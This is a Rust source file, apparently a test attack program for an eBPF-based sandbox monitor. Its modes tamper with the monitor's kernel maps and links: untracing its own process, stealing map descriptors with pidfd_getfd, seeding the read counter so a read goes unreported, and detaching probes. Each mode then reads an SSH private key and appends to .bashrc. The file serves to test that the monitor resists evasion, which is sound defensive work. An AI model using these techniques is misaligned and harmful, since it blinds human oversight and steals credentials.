//! An agent that edits its monitor's kernel state with bpf(2), then acts (reads
//! `$ATTACK_HOME/.ssh/id_rsa`, connects to loopback, appends to `$ATTACK_HOME/.bashrc`).
//!
//! `attack-bpf MODE`, run as root under `sandbox-watch run`:
//! - `untrace`: BPF_MAP_GET_NEXT_ID / BPF_MAP_GET_FD_BY_ID to find the TRACED map that holds
//!   its own tgid, BPF_MAP_DELETE_ELEM of it, act, BPF_MAP_UPDATE_ELEM to put itself back;
//! - `untrace-getfd`: the same, but the map's fd is taken from the monitor itself with
//!   pidfd_open + pidfd_getfd (no BPF_MAP_GET_FD_BY_ID at all);
//! - `seed-reads`: puts {tgid, dev, ino} of the key into READS with a count of 1 before reading
//!   it, so the kernel counts the read as a repeat and never sends it;
//! - `detach`: BPF_LINK_DETACH of every link the monitor holds, then acts;
//! - `frozen`: BPF_MAP_GET_FD_BY_ID of the monitor's DROPS, SEQ and TRACED (ids from its
//!   fdinfo), BPF_MAP_UPDATE_ELEM and BPF_MAP_DELETE_ELEM of each (one line each:
//!   `NAME update: ok` or `NAME update: errno N`), an update of the writable READS with an
//!   entry that hides nothing (inode 0), then acts.
//!
//! Exit status 0 when the bpf(2) part worked, 70 when it could not be done.
#[path = "../attack_common.rs"]
mod common;

use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::os::unix::fs::MetadataExt as _;

use common::*;

fn main() {
    let mode = std::env::args().nth(1).unwrap_or_else(|| "untrace".into());
    let home = attack_home();
    let listener = listener();
    let port = listener.local_addr().unwrap().port();
    match mode.as_str() {
        "untrace" => {
            let Some(map) = our_traced_map() else {
                die("no TRACED map holds my tgid")
            };
            untrace_and_act(&map, &home, port);
        }
        "untrace-getfd" => {
            let monitor = monitor_pid();
            let map = stolen_map(monitor, "TRACED")
                .unwrap_or_else(|| die("could not take TRACED from the monitor"));
            untrace_and_act(&map, &home, port);
        }
        "seed-reads" => {
            let monitor = monitor_pid();
            let Some(reads) = monitor_map(monitor, "READS") else {
                die("the monitor holds no READS map")
            };
            let key_path = home.join(".ssh/id_rsa");
            let meta = std::fs::metadata(&key_path).unwrap();
            // The kernel's dev_t (major << 20 | minor), as the probe reads it from the superblock.
            let dev = (libc::major(meta.dev()) << 20) | libc::minor(meta.dev());
            let mut key = Vec::new();
            key.extend_from_slice(&tgid().to_ne_bytes());
            key.extend_from_slice(&dev.to_ne_bytes());
            key.extend_from_slice(&meta.ino().to_ne_bytes());
            match update(&reads.fd, &key, &1u64.to_ne_bytes()) {
                Ok(()) => say(&format!(
                    "READS[{{tgid {}, dev {dev:#x}, ino {}}}] = 1 (map id {})",
                    tgid(),
                    meta.ino(),
                    reads.info.id
                )),
                Err(e) => die(&format!("updating READS: {e}")),
            }
            act(&home, port);
        }
        "detach" => {
            let monitor = monitor_pid();
            let links = held_ids(monitor).links;
            if links.is_empty() {
                die("the monitor holds no bpf links");
            }
            let mut detached = 0;
            let mut errors: std::collections::BTreeMap<String, u32> = Default::default();
            for id in &links {
                let fd = bpf(BPF_LINK_GET_FD_BY_ID, &mut Attr::new().u32(0, *id));
                let Ok(fd) = fd else {
                    *errors
                        .entry(format!("get fd: {}", fd.unwrap_err()))
                        .or_default() += 1;
                    continue;
                };
                // SAFETY: the kernel just gave us this fd.
                let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
                match bpf(
                    BPF_LINK_DETACH,
                    &mut Attr::new().u32(0, fd.as_raw_fd() as u32),
                ) {
                    Ok(_) => detached += 1,
                    Err(e) => *errors.entry(format!("detach: {e}")).or_default() += 1,
                }
            }
            say(&format!(
                "detached {detached} of the monitor's {} links; refused: {errors:?}",
                links.len()
            ));
            if detached == 0 {
                die("no link could be detached");
            }
            act(&home, port);
        }
        "frozen" => {
            let monitor = monitor_pid();
            for name in ["DROPS", "SEQ", "TRACED", "READS"] {
                let Some(map) = monitor_map(monitor, name) else {
                    die(&format!("the monitor holds no {name} map"))
                };
                let key = if name == "TRACED" {
                    tgid().to_ne_bytes().to_vec()
                } else {
                    vec![0u8; map.info.key_size as usize]
                };
                let value = vec![0u8; value_bytes(&map.info)];
                let result = |r: Result<(), std::io::Error>| match r {
                    Ok(()) => "ok".to_string(),
                    Err(e) => format!("errno {}", e.raw_os_error().unwrap_or(0)),
                };
                say(&format!(
                    "{name} update: {} (map id {})",
                    result(update(&map.fd, &key, &value)),
                    map.info.id
                ));
                // READS: the entry just made hides nothing (no file has inode 0); keep it.
                if name != "READS" {
                    say(&format!("{name} delete: {}", result(delete(&map.fd, &key))));
                }
            }
            act(&home, port);
        }
        other => die(&format!(
            "unknown mode {other:?}: untrace, untrace-getfd, seed-reads, detach, frozen"
        )),
    }
    drop(listener);
}

/// Bytes of a value buffer for BPF_MAP_UPDATE_ELEM: one value per possible CPU (each
/// rounded up to 8 bytes) for the per-CPU maps.
fn value_bytes(info: &MapInfo) -> usize {
    const PERCPU_HASH: u32 = 5;
    if matches!(info.map_type, PERCPU_HASH | BPF_MAP_TYPE_PERCPU_ARRAY) {
        (info.value_size as usize).div_ceil(8) * 8 * possible_cpus()
    } else {
        info.value_size as usize
    }
}

fn untrace_and_act(map: &Map, home: &std::path::Path, port: u16) {
    let me = tgid().to_ne_bytes();
    if let Err(e) = delete(&map.fd, &me) {
        die(&format!("deleting my tgid from TRACED: {e}"));
    }
    say(&format!(
        "deleted tgid {} from TRACED (map id {})",
        tgid(),
        map.info.id
    ));
    act(home, port);
    let mut value = vec![0u8; map.info.value_size as usize];
    value[0] = 1;
    match update(&map.fd, &me, &value) {
        Ok(()) => say("put my tgid back in TRACED"),
        Err(e) => say(&format!("putting my tgid back: {e}")),
    }
}

/// The monitor's map named `name`, through fds duplicated from the monitor with pidfd_getfd.
fn stolen_map(monitor: i32, name: &str) -> Option<Map> {
    // SAFETY: plain syscalls with integer arguments.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, monitor, 0) };
    if pidfd < 0 {
        say(&format!(
            "pidfd_open({monitor}): {}",
            std::io::Error::last_os_error()
        ));
        return None;
    }
    let dir = std::fs::read_dir(format!("/proc/{monitor}/fdinfo")).ok()?;
    for entry in dir.flatten() {
        let Some(fd) = entry
            .file_name()
            .to_str()
            .and_then(|s| s.parse::<i32>().ok())
        else {
            continue;
        };
        let text = std::fs::read_to_string(entry.path()).unwrap_or_default();
        if !text.contains("map_id:") {
            continue;
        }
        // SAFETY: as above.
        let ours = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, fd, 0) };
        if ours < 0 {
            continue;
        }
        // SAFETY: the kernel just gave us this fd.
        let ours = unsafe { OwnedFd::from_raw_fd(ours as i32) };
        if let Ok(info) = map_info(ours.as_raw_fd())
            && info.name() == name
        {
            say(&format!(
                "took the monitor's fd {fd} ({name}, map id {}) with pidfd_getfd",
                info.id
            ));
            return Some(Map { fd: ours, info });
        }
    }
    None
}
